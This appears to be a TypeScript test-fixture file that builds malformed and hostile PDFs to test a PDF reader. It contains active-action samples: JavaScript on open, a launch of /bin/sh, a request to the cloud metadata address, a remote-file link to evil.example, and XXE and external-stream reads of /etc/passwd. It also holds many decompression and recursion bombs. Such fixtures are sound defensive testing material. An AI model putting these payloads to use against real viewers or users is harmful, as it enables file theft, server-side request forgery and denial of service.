import { deflateSync } from 'node:zlib';

/** An object's content: a dictionary as text, or a stream as bytes. */
type PdfObject = string | Buffer;

interface PdfParts {
  /** More entries of the trailer. */
  trailer?: string;
  /** Replaces the whole cross-reference table and trailer. */
  end?: (xref: number, count: number) => string;
}

/** A PDF of these objects, the first of which is its catalogue. */
export function aRawPdf(objects: PdfObject[], { trailer = '', end }: PdfParts = {}): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    offsets.push(at);
    const whole = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]);
    parts.push(whole);
    at += whole.length;
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  const usual = `xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(end?.(at, count) ?? usual)]);
}

export function stream(dictionary: string, data: Buffer | string): Buffer {
  const bytes = Buffer.from(data as string, 'latin1');
  const head = `<< ${dictionary} /Length ${bytes.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream')]);
}

const WORDS = 'BT /F1 12 Tf 20 150 Td (Honest words) Tj ET';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

interface PageParts {
  catalog?: string;
  page?: string;
  resources?: string;
  content?: PdfObject;
  font?: PdfObject;
  more?: PdfObject[];
  parts?: PdfParts;
}

/** One page: object 1 the catalogue, 2 the page tree, 3 the page, 4 its content, 5 its font, more from 6. */
export function aPageOf(given: PageParts = {}): Uint8Array {
  const { catalog = '', page = '', resources = '', content = stream('', WORDS), font = FONT, more = [], parts } = given;
  return aRawPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
      content,
      font,
      ...more,
    ],
    parts,
  );
}

/** Spaces, compressed until hardly anything is left: `megabytes` of them after `times` decompressions. */
export function flateBomb(megabytes: number, times = 1): Buffer {
  let data: Buffer = Buffer.alloc(megabytes * 1024 * 1024, 0x20);
  for (let time = 0; time < times; time++) data = deflateSync(data, { level: 1 });
  return data;
}

const type0 = (cmap: string) => [
  '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>',
  '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>',
  stream('', cmap),
];
const withCmap = (body: string) => {
  const head =
    '/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange';
  const [font = '', ...more] = type0(`${head} ${body} endcmap end end`);
  return aPageOf({ font, more });
};
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
/** Pages in pages in pages, `depth` levels of them. */
const deepTree = (depth: number) =>
  aRawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...Array.from({ length: depth }, (_, at) => `<< /Type /Pages /Kids [${at + 3} 0 R] /Count 1 >>`),
    '<< /Type /Page /MediaBox [0 0 9 9] >>',
  ]);

/** Documents with actions that a viewer may run; their words are readable. */
export const ACTIVE_PDFS: Record<string, () => Uint8Array> = {
  'JavaScript on opening': () => aPageOf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
  'JavaScript by name': () =>
    aPageOf({ catalog: '/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>' }),
  'JavaScript of a page': () => aPageOf({ page: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }),
  'a program to launch': () => aPageOf({ catalog: '/OpenAction << /S /Launch /F (/bin/sh) >>' }),
  'an address to open': () => aPageOf({ catalog: '/OpenAction << /S /URI /URI (http://169.254.169.254/) >>' }),
  'a form to submit': () => aPageOf({ catalog: '/OpenAction << /S /SubmitForm /F (http://127.0.0.1:1/) >>' }),
  'a file of another machine': () => aPageOf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>' }),
  'an external stream': () => aPageOf({ more: [stream('/F (file:///etc/passwd) /FFilter /FlateDecode', '')] }),
  'a form in XFA': () =>
    aPageOf({
      catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>',
      more: [stream('', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')],
    }),
  'an embedded file': () =>
    aPageOf({
      catalog: '/Names << /EmbeddedFiles << /Names [(../../x.exe) << /F (../../x.exe) /EF << /F 6 0 R >> >>] >> >>',
      more: [stream('', 'MZ')],
    }),
};

/** Documents that take a careless reader very long, or more memory than there is. */
export const PDF_BOMBS: Record<string, () => Uint8Array> = {
  'a stream of a thousand filters': () =>
    aPageOf({ content: stream(`/Filter [${'/ASCIIHexDecode '.repeat(1_000)}]`, '20>') }),
  'a page tree that contains itself': () =>
    aRawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>']),
  'a page tree of twenty thousand levels': () => deepTree(20_000),
  'a million pages that are one': () =>
    aRawPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${'3 0 R '.repeat(1_000_000)}] /Count 1000000 >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
    ]),
  'a cross-reference table that refers to itself': () =>
    aPageOf({
      parts: {
        trailer: '/Prev 9',
        end: (at, count) =>
          `xref\n0 ${count}\ntrailer\n<< /Size ${count} /Root 1 0 R /Prev ${at} >>\nstartxref\n${at}\n%%EOF`,
      },
    }),
  'a cross-reference stream of two billion entries': () =>
    aPageOf({
      parts: {
        end: (at) =>
          `9 0 obj\n<< /Type /XRef /Size 2000000000 /W [1 8 8] /Index [0 2000000000] /Root 1 0 R /Length 4 >>\nstream\nabcd\nendstream\nendobj\nstartxref\n${at}\n%%EOF`,
      },
    }),
  'arrays nested three million deep': () => Buffer.from(`%PDF-1.7\n${'['.repeat(3_000_000)}`),
  'a drawing that draws itself': () =>
    aPageOf({
      content: stream('', '/X Do'),
      resources: '/XObject << /X 6 0 R >>',
      more: [
        stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>', '/X Do /X Do'),
      ],
    }),
  'an image of ten billion pixels': () =>
    aPageOf({
      content: stream('', '/X Do'),
      resources: '/XObject << /X 6 0 R >>',
      more: [
        stream(
          '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
          flateBomb(5),
        ),
      ],
    }),
  'a font with four billion characters': () => withCmap('1 beginbfrange <00000000> <ffffffff> <0000> endbfrange'),
  'a million words': () => aPageOf({ content: stream('', `BT /F1 9 Tf ${'(word) Tj T* '.repeat(1_000_000)} ET`) }),
  'a length that is itself': () =>
    aPageOf({ content: Buffer.from(`<< /Length 4 0 R >>\nstream\n${WORDS}\nendstream`) }),
  'an object stream that extends itself': () =>
    aPageOf({ more: [stream('/Type /ObjStm /N 100000000 /First 4 /Extends 6 0 R', '1 0 <<>>')] }),
};

/** More of them, for the long tests. */
export const MORE_PDF_BOMBS: Record<string, () => Uint8Array> = {
  'a thousand streams that expand': () =>
    aPageOf({
      page: `/Contents [${'6 0 R '.repeat(1_000)}]`,
      more: [stream('/Filter /FlateDecode', flateBomb(5))],
    }),
  'two billion pages': () =>
    aRawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 2000000000 >>']),
  'two hundred thousand objects': () =>
    aPageOf({ more: Array.from({ length: 200_000 }, (_, at) => `<< /Next ${at + 7} 0 R >>`) }),
  'a cross-reference table of two billion entries': () =>
    aPageOf({
      parts: {
        end: (at) =>
          `xref\n0 2000000000\n0000000000 65535 f \ntrailer\n<< /Size 2000000000 /Root 1 0 R >>\nstartxref\n${at}\n%%EOF`,
      },
    }),
  'no cross-reference table': () => aPageOf({ parts: { end: () => 'startxref\n99999999999999\n%%EOF' } }),
  'arrays nested in its catalogue': () => aPageOf({ catalog: `/X ${nested(500_000)}` }),
  'drawings that draw ten drawings each': () =>
    aPageOf({
      content: stream('', '/X Do'),
      resources: '/XObject << /X 6 0 R >>',
      more: Array.from({ length: 12 }, (_, at) =>
        stream(
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 5 0 R >> /XObject << /X ${at + 7} 0 R >> >>`,
          '/X Do '.repeat(10),
        ),
      ),
    }),
  'an inline image of ten billion pixels': () =>
    aPageOf({ content: stream('', 'BI /W 100000 /H 100000 /CS /RGB /BPC 8 /F /Fl ID x EI') }),
  'an image in JBIG2 of four billion pixels': () =>
    aPageOf({
      content: stream('', '/X Do'),
      resources: '/XObject << /X 6 0 R >>',
      more: [
        stream(
          '/Type /XObject /Subtype /Image /Width 65535 /Height 65535 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode',
          Buffer.from('000000003000010000001300010000000100000000000000000001000000', 'hex'),
        ),
      ],
    }),
  'a font whose letters are drawn with itself': () =>
    aPageOf({
      font: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>',
      content: stream('', 'BT /F1 9 Tf (aaaa) Tj ET'),
      more: [stream('', 'BT /F1 9 Tf (aaaa) Tj ET')],
    }),
  'a font with many ranges': () => withCmap(`1000 beginbfrange ${'<0000> <ffff> <0000> '.repeat(1_000)} endbfrange`),
  'a font whose character means a megabyte of text': () =>
    withCmap(`1 beginbfchar <0041> <${'0041'.repeat(500_000)}> endbfchar`),
  'a million states that are never restored': () => aPageOf({ content: stream('', 'q '.repeat(1_000_000)) }),
  'one word of thirty megabytes': () =>
    aPageOf({ content: stream('', `BT /F1 9 Tf (${'x'.repeat(30_000_000)}) Tj ET`) }),
  'text that does not end': () => aPageOf({ content: stream('', `BT (${'('.repeat(5_000_000)}`) }),
  'a negative length': () => aPageOf({ content: Buffer.from(`<< /Length -1 >>\nstream\n${WORDS}\nendstream`) }),
  'sizes that are no numbers': () => aPageOf({ page: '/MediaBox [0 0 1e999 -1e999] /UserUnit 1e308 /Rotate 7' }),
  'a password': () =>
    aPageOf({
      parts: {
        trailer: `/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <${'00'.repeat(48)}> /U <${'00'.repeat(48)}> /OE <${'00'.repeat(32)}> /UE <${'00'.repeat(32)}> /Perms <${'00'.repeat(16)}> >> /ID [<00> <00>]`,
      },
    }),
};
